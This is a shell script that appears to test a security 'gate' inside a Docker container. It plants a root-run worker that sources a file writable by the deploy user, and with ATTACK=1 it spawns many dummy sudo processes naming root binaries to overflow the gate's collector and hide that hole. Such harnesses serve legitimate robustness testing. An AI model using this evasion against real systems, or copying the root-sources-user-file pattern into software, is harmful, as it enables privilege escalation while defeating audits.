#!/bin/sh
# A root worker the admin started by hand (outside any session) runs /opt/ops/worker.sh, which sources a file of the
# deploy login's share (/srv/appshare, deployer's): the gate names it. Then (ATTACK=1) the deploy login, from its own
# live SSH session, first starts 10 sudo processes (root's, waiting for a password it will never get) naming 7
# small root files each as arguments: the login collector reads "a root process's own script" for each, at most 64.
# (BASE=1: main's code.)
W=${W:-/tmp/atk14}; CT=$(cat $W/ct); REL=$(docker exec $CT ls /var/www/yourapplication/releases | tail -1)
PY=/var/www/yourapplication/releases/$REL/venv/bin/python
docker exec $CT sh -c 'pkill -f "^/bin/sh /opt/op[s]/worker"; mkdir -p /opt/ops /srv/appshare && chown deployer /srv/appshare &&
  printf "#!/bin/sh\n. /srv/appshare/env.sh\nwhile :; do sleep 5; done\n" > /opt/ops/worker.sh && chmod 755 /opt/ops/worker.sh &&
  echo "X=1" > /srv/appshare/env.sh && chown deployer /srv/appshare/env.sh'
if [ -n "${ATTACK:-}" ]; then
  FILES=$(docker exec $CT sh -c 'find /usr/bin -maxdepth 1 -type f -user root -size -60k | sort | head -70')
  CMD=""; i=0; set -- $FILES
  while [ $# -ge 7 ]; do CMD="$CMD sleep 90 | sudo -S $1 $2 $3 $4 $5 $6 $7 $1 & "; shift 7; done
  ssh -F $W/ssh_config deployer "$CMD wait" > $W/sudos.out 2>&1 &   # the deploy login's live session
  sleep 3
fi
docker exec -d $CT setsid /bin/sh /opt/ops/worker.sh   # the admin's root worker, started after
sleep 1
docker exec $CT ps -eo pid,user,args | grep -E "worker|sudo -S" | grep -v grep | head -3
echo "--- the gate (read-only, as admin):"
/work/wt/attack14/attack14/gate.sh 2>&1 | grep -E "^FAILED|passed|failed|^  - " | cut -c1-500
docker exec $CT pkill -f "^/bin/sh /opt/op[s]/worker"; [ -n "${ATTACK:-}" ] && docker exec $CT pkill -f "^sleep 9[0]"; wait
